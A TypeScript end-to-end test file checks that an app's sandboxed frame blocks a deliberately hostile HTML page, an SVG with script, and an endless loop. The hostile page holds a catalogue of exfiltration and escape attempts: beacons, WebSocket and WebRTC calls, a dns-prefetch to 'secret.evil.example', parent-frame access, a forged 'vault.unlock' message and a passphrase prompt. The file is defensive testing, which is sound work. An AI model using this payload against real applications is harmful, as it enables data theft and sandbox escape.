import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import { createServer as createTcpServer, type AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { text } from '#renderer/text/en.ts'
import { type RunningApp, startApp } from '../support/app.ts'
import { call, passphrase } from '../support/window-actions.ts'
import { openWorks, workFrame, worksFolder } from '../support/works-in-window.ts'

/** What an HTML file of somebody else tries while the window shows it: nothing of it has an effect. */

const words = text.common.works
const folder = mkdtempSync(join(tmpdir(), 'coldpress-hostile-work-'))

/** Counts whatever arrives by HTTP, TCP and UDP. */
const openTrap = async () => {
  const seen: string[] = []
  const http = createServer((request, response) => {
    seen.push(`http ${request.url}`)
    response.setHeader('access-control-allow-origin', '*').end('there')
  }).listen(0, '127.0.0.1')
  const tcp = createTcpServer((socket) => {
    seen.push('tcp')
    socket.on('error', () => undefined)
  }).listen(0, '127.0.0.1')
  const udp = createSocket('udp4').on('message', () => seen.push('udp'))
  udp.bind(0, '127.0.0.1')
  await Promise.all([http, tcp, udp].map((each) => once(each, 'listening')))
  const portOf = (server: { address(): AddressInfo | string | null }): number => {
    const address = server.address()
    if (address === null || typeof address === 'string') throw new Error('no port')
    return address.port
  }
  return {
    seen,
    http: `http://127.0.0.1:${portOf(http)}`,
    tcp: portOf(tcp),
    udp: portOf(udp),
    close: () => {
      http.close()
      tcp.close()
      udp.close()
    },
  }
}
type Trap = Awaited<ReturnType<typeof openTrap>>

const page = ({ http, tcp, udp }: Trap): string => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Art</title>
<link rel="dns-prefetch" href="//secret.evil.example"><link rel="preconnect" href="${http}">
<link rel="prefetch" href="${http}/prefetch"><link rel="stylesheet" href="${http}/style.css">
<style>@import url('${http}/import.css'); body { background: url('${http}/background.png') }</style>
</head><body><img src="${http}/image.png" alt=""><video src="${http}/film.mp4"></video>
<object data="${http}/object"></object><embed src="${http}/embed"><iframe src="${http}/frame"></iframe>
<form id="form" action="${http}/form" method="post"><input name="a" value="b"></form>
<a id="download" href="data:text/plain,x" download="x.txt">x</a>
<script>
'use strict'
window.violated = new Set()
document.addEventListener('securitypolicyviolation', (event) => window.violated.add(event.effectiveDirective))
window.inline = 'works'
const http = '${http}'
const attempt = async (work) => {
  try {
    const value = await Promise.race([work(), new Promise((resolve) => setTimeout(resolve, 30_000, 'no answer'))])
    return value === undefined || value === null ? 'nothing' : String(value)
  } catch (error) { return error.name ?? 'blocked' }
}
const event = (target, good) => new Promise((resolve, reject) => {
  target.addEventListener(good, () => resolve('there'))
  target.addEventListener('error', () => reject(Object.assign(new Error(), { name: 'blocked' })))
})
const app = location.protocol === 'work:' ? 'app://coldpress' : 'https://coldpress.app.invalid'
const rtc = async () => {
  for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection']) {
    const Connection = window[name]
    if (!Connection) continue
    const servers = ['stun:127.0.0.1:${udp}', 'turn:127.0.0.1:${udp}?transport=udp', 'turn:127.0.0.1:${tcp}?transport=tcp']
    const mine = new Connection({ iceServers: [{ urls: servers, username: 'secret', credential: 'secret' }] })
    mine.createDataChannel('secret')
    await mine.setLocalDescription(await mine.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 1200))
  }
  return 'tried'
}
window.attempts = (async () => ({
  fetch: await attempt(async () => (await fetch(http + '/fetch')).status),
  fetchOpaque: await attempt(async () => (await fetch(http + '/opaque', { mode: 'no-cors' })).type),
  fetchApp: await attempt(async () => (await fetch(app + '/index.html')).status),
  imageOfApp: await attempt(() => event(Object.assign(new Image(), { src: app + '/index.html' }), 'load')),
  image: await attempt(() => event(Object.assign(new Image(), { src: http + '/new.png' }), 'load')),
  script: await attempt(() => event(document.body.appendChild(Object.assign(document.createElement('script'), { src: http + '/x.js' })), 'load')),
  module: await attempt(() => import(http + '/module.js')),
  socket: await attempt(() => event(new WebSocket(http.replace('http', 'ws')), 'open')),
  source: await attempt(() => event(new EventSource(http + '/events'), 'open')),
  worker: await attempt(() => event(new Worker(http + '/worker.js'), 'message')),
  sharedWorker: await attempt(() => event(new SharedWorker('data:text/javascript,'), 'connect')),
  beacon: await attempt(() => navigator.sendBeacon(http + '/beacon', 'secret')),
  bridge: await attempt(() => typeof window.coldpress),
  parentBridge: await attempt(() => window.parent.coldpress),
  parentDocument: await attempt(() => window.parent.document.title),
  parentAddress: await attempt(() => window.parent.location.href),
  topNavigation: await attempt(() => { window.top.location = http + '/top'; return 'gone' }),
  popup: await attempt(() => window.open(http + '/popup')),
  popupOfApp: await attempt(() => window.open(app + '/index.html')),
  localStorage: await attempt(() => localStorage.length),
  sessionStorage: await attempt(() => sessionStorage.length),
  cookie: await attempt(() => { document.cookie = 'a=b'; return document.cookie }),
  database: await attempt(() => new Promise((resolve, reject) => {
    const asked = indexedDB.open('kept')
    asked.onsuccess = () => resolve('there')
    asked.onerror = () => reject(asked.error)
  })),
  caches: await attempt(async () => (await caches.keys()).length),
  files: await attempt(async () => (await navigator.storage.getDirectory()).kind),
  serviceWorker: await attempt(() => navigator.serviceWorker.register('/sw.js')),
  camera: await attempt(() => navigator.mediaDevices.getUserMedia({ video: true })),
  clipboard: await attempt(() => navigator.clipboard.readText()),
  place: await attempt(() => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, (error) => reject(Object.assign(new Error(), { name: 'code ' + error.code }))))),
  dialog: await attempt(() => confirm('Type your passphrase')),
  fullscreen: await attempt(() => document.documentElement.requestFullscreen()),
  download: await attempt(() => document.getElementById('download').click()),
  form: await attempt(() => document.getElementById('form').submit()),
  rtc: await attempt(rtc),
}))()
window.parent.postMessage({ name: 'vault.unlock', args: ['secret'] }, '*')
</script></body></html>
`

let running: RunningApp
let trap: Trap
let bytes: string

const isThere = async (): Promise<void> => {
  expect(await running.page.evaluate('typeof window.coldpress')).toBe('object')
  expect(running.app.windows()).toHaveLength(1)
}

beforeAll(async () => {
  trap = await openTrap()
  bytes = page(trap)
  worksFolder(folder, {
    html: bytes,
    htm: '<!doctype html><title>Loop</title><script>setTimeout(() => { for (;;); }, 100)</script>',
    svg: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script>window.ran = typeof window.parent.coldpress</script><image href="${trap.http}/in-svg.png" width="9" height="9"/><rect width="9" height="9" fill="teal"/></svg>`,
  })
  running = await startApp()
  await running.page.getByRole('navigation', { name: text.frame.navigation }).waitFor()
  await call(running.page, 'vault.create', { passphrase })
})
afterAll(async () => {
  await running.close()
  trap.close()
  rmSync(folder, { recursive: true, force: true })
})

describe('a hostile work', () => {
  it('is not loaded before somebody asks for it, then byte for byte, and every attempt of it fails', async () => {
    const { page: window } = running
    const works = await openWorks(window, folder, 3)
    await works.getByText('text/html').first().waitFor()
    expect(window.frames()).toHaveLength(1)
    const loaded = window.waitForResponse((response) =>
      response.url().includes('/html/draft-work/'),
    )
    await works
      .getByRole('listitem')
      .nth(0)
      .getByRole('button', { name: words.show('Art 1'), exact: true })
      .click()
    const response = await loaded
    const frame = await workFrame(window)
    expect((await response.body()).toString()).toBe(bytes)
    expect((await response.headerValue('content-security-policy')) ?? '').toMatch(
      /^default-src 'none'; .*; sandbox allow-scripts$/u,
    )
    // Its own program runs: what follows was tried.
    expect(await frame.evaluate('window.inline')).toBe('works')
    expect(await frame.evaluate('window.origin')).toBe('null')
    const tried = await frame.evaluate<Record<string, string>>('window.attempts')
    expect(tried).toEqual({
      fetch: 'TypeError',
      fetchOpaque: 'TypeError',
      fetchApp: 'TypeError',
      imageOfApp: 'blocked',
      image: 'blocked',
      script: 'blocked',
      module: 'TypeError',
      socket: expect.stringMatching(/blocked|SecurityError/u),
      source: 'blocked',
      worker: expect.stringMatching(/blocked|SecurityError/u),
      sharedWorker: expect.stringMatching(/blocked|SecurityError/u),
      // says only that it was accepted for sending
      beacon: expect.stringMatching(/true|false/u),
      bridge: 'undefined',
      parentBridge: 'SecurityError',
      parentDocument: 'SecurityError',
      parentAddress: 'SecurityError',
      topNavigation: 'SecurityError',
      popup: 'nothing',
      popupOfApp: 'nothing',
      localStorage: 'SecurityError',
      sessionStorage: 'SecurityError',
      cookie: 'SecurityError',
      database: expect.stringMatching(/SecurityError|UnknownError/u),
      caches: 'SecurityError',
      files: 'SecurityError',
      serviceWorker: expect.stringMatching(/SecurityError|TypeError/u),
      camera: expect.stringMatching(/NotAllowed|NotFound/u),
      clipboard: 'NotAllowedError',
      place: 'code 1',
      dialog: 'false',
      fullscreen: 'TypeError',
      download: 'nothing',
      form: 'nothing',
      rtc: 'tried',
    })
    const violated = await frame.evaluate<string[]>('[...window.violated]')
    for (const directive of ['connect-src', 'img-src', 'script-src-elem'])
      expect(violated).toContain(directive)
    await isThere()
    // it may lead itself away, and gets nowhere
    await frame.evaluate(`void (location.href = '${trap.http}/away')`).catch(() => undefined)
    // That nothing leaves can only be given time.
    await sleep(1000)
    expect(trap.seen).toEqual([])
    await isThere()
    await works.getByRole('button', { name: words.stop('Art 1') }).click()
    await expect.poll(() => window.frames()).toHaveLength(1)
  })

  it('an SVG with a program reaches nothing either', async () => {
    const { page: window } = running
    const works = window.getByRole('list', { name: words.label })
    await works
      .getByRole('listitem')
      .nth(2)
      .getByRole('button', { name: words.show('Art 1'), exact: true })
      .click()
    const frame = await workFrame(window)
    expect(await frame.evaluate('document.documentElement.tagName')).toBe('svg')
    expect(await frame.evaluate('window.ran')).toBeUndefined()
    // That nothing leaves can only be given time.
    await sleep(500)
    expect(trap.seen).toEqual([])
    await works.getByRole('button', { name: words.stop('Art 1') }).click()
    await expect.poll(() => window.frames()).toHaveLength(1)
  })

  it('a work that never ends does not hold up the window, which ends it', async () => {
    const { page: window } = running
    const works = window.getByRole('list', { name: words.label })
    const item = works.getByRole('listitem').nth(1)
    await item.getByRole('button', { name: words.show('Art 1'), exact: true }).click()
    // Its frame answers nothing while it runs, so that nobody can see when it has begun.
    await sleep(1500)
    // A window that is held up answers nothing until the test's time is over.
    await call(window, 'app.info', null)
    await item.getByRole('button', { name: words.stop('Art 1') }).click()
    await expect.poll(() => window.locator('iframe').count()).toBe(0)
    await isThere()
  })

  it('the page itself may frame nothing but works, and Chromium has no network in any mode', async () => {
    const { page: window } = running
    const framed = await window.evaluate(`(async () => {
      const load = (src) => new Promise((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { src })
        document.body.append(frame)
        const looks = setInterval(() => {
          let text
          try { text = frame.contentDocument === null ? 'elsewhere' : frame.contentDocument.body?.textContent } catch { text = 'elsewhere' }
          // Empty while nothing is loaded.
          if (!text) return
          clearInterval(looks)
          frame.remove()
          resolve(text)
        }, 10)
      })
      return [await load('${trap.http}/framed'), await load('/index.html')]
    })()`)
    expect(framed).toEqual(['elsewhere', 'elsewhere'])
    expect(trap.seen).toEqual([])
    const shut = await running.app.evaluate(({ app }) =>
      ['host-resolver-rules', 'proxy-server'].map((name) => app.commandLine.hasSwitch(name)),
    )
    expect(shut).toEqual([true, true])
  })
})
